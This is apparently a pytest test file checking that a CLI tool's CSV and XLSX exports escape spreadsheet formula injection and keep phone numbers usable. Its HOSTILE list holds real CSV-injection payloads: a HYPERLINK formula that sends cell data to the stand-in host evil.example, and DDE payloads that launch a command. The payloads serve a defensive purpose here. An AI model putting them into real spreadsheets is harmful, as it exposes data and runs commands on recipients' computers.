"""Issue 12 item 4: a hostile name or address never comes out of an export as a live formula,
and the phone numbers stay usable. Through `veribot people import` and `veribot results export`."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bot.cli import main

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PHONES = ["13800138000", "13900139000", "13700137000", "13600136000", "13500135000", "13300133000"]


@pytest.fixture
def config(tmp_path, monkeypatch):
    cfg = tmp_path / "config.toml"
    cfg.write_text(f'[service]\nvar_dir = "{tmp_path / "var"}"\n', encoding="utf-8")
    monkeypatch.setenv("VERIBOT_CONFIG", str(cfg))
    people = tmp_path / "people.csv"
    with people.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["姓名", "电话", "住址"])
        for name, phone in zip(HOSTILE, PHONES, strict=True):
            w.writerow([f"x{name.strip()}", phone, name])  # a tab or CR inside a name is refused at import
        w.writerow(["=1+1", "13200132000", "兰州市"])
    assert main(["people", "import", str(people), "--campaign", "c1"]) == 0
    return tmp_path


def test_csv_export_neutralises_formulas_keeps_phones_and_starts_with_a_bom(config, capsys):
    capsys.readouterr()
    out = config / "r.csv"
    assert main(["results", "export", "--campaign", "c1", "--format", "csv", "-o", str(out), "--layout", "plain"]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel shows Chinese correctly only with it
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = [v for r in rows for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r" and not v.startswith("+86")]
    assert {r["expected_address"] for r in rows} >= {"'" + h.strip() for h in HOSTILE}  # import trims
    assert {r["phone"] for r in rows} == {"+86" + p for p in [*PHONES, "13200132000"]}
    assert "'=1+1" in {r["name"] for r in rows}


def test_xlsx_export_writes_text_cells_never_formulas(config, capsys):
    out = config / "r.xlsx"
    assert main(["results", "export", "--campaign", "c1", "--format", "xlsx", "-o", str(out)]) == 0
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    addresses = {c.value for c in cells if c.column == 6}
    assert {h.strip() for h in HOSTILE} <= addresses  # the value itself is kept, as text
    risky_cells = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@", "-"))]
    assert risky_cells and all(c.data_type == "s" and c.quotePrefix for c in risky_cells)
    phones = [c for c in cells if c.column == 3]
    assert {c.value for c in phones} == {"+86" + p for p in [*PHONES, "13200132000"]}
    assert all(c.data_type == "s" for c in phones)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("+8613800138000", "+8613800138000"), ("+12025550123", "+12025550123"),
    ("+999999999", "'+999999999"),  # not a valid number: neutralised
    ("张三", "张三"), ("a=b", "a=b"), ("", ""), (5, 5), (-5, -5), (None, None),
])
def test_neutralise(value, expected):
    from bot.campaigns.results.export import neutralise, risky

    assert neutralise(value) == expected
    assert risky(value) == (value != expected)
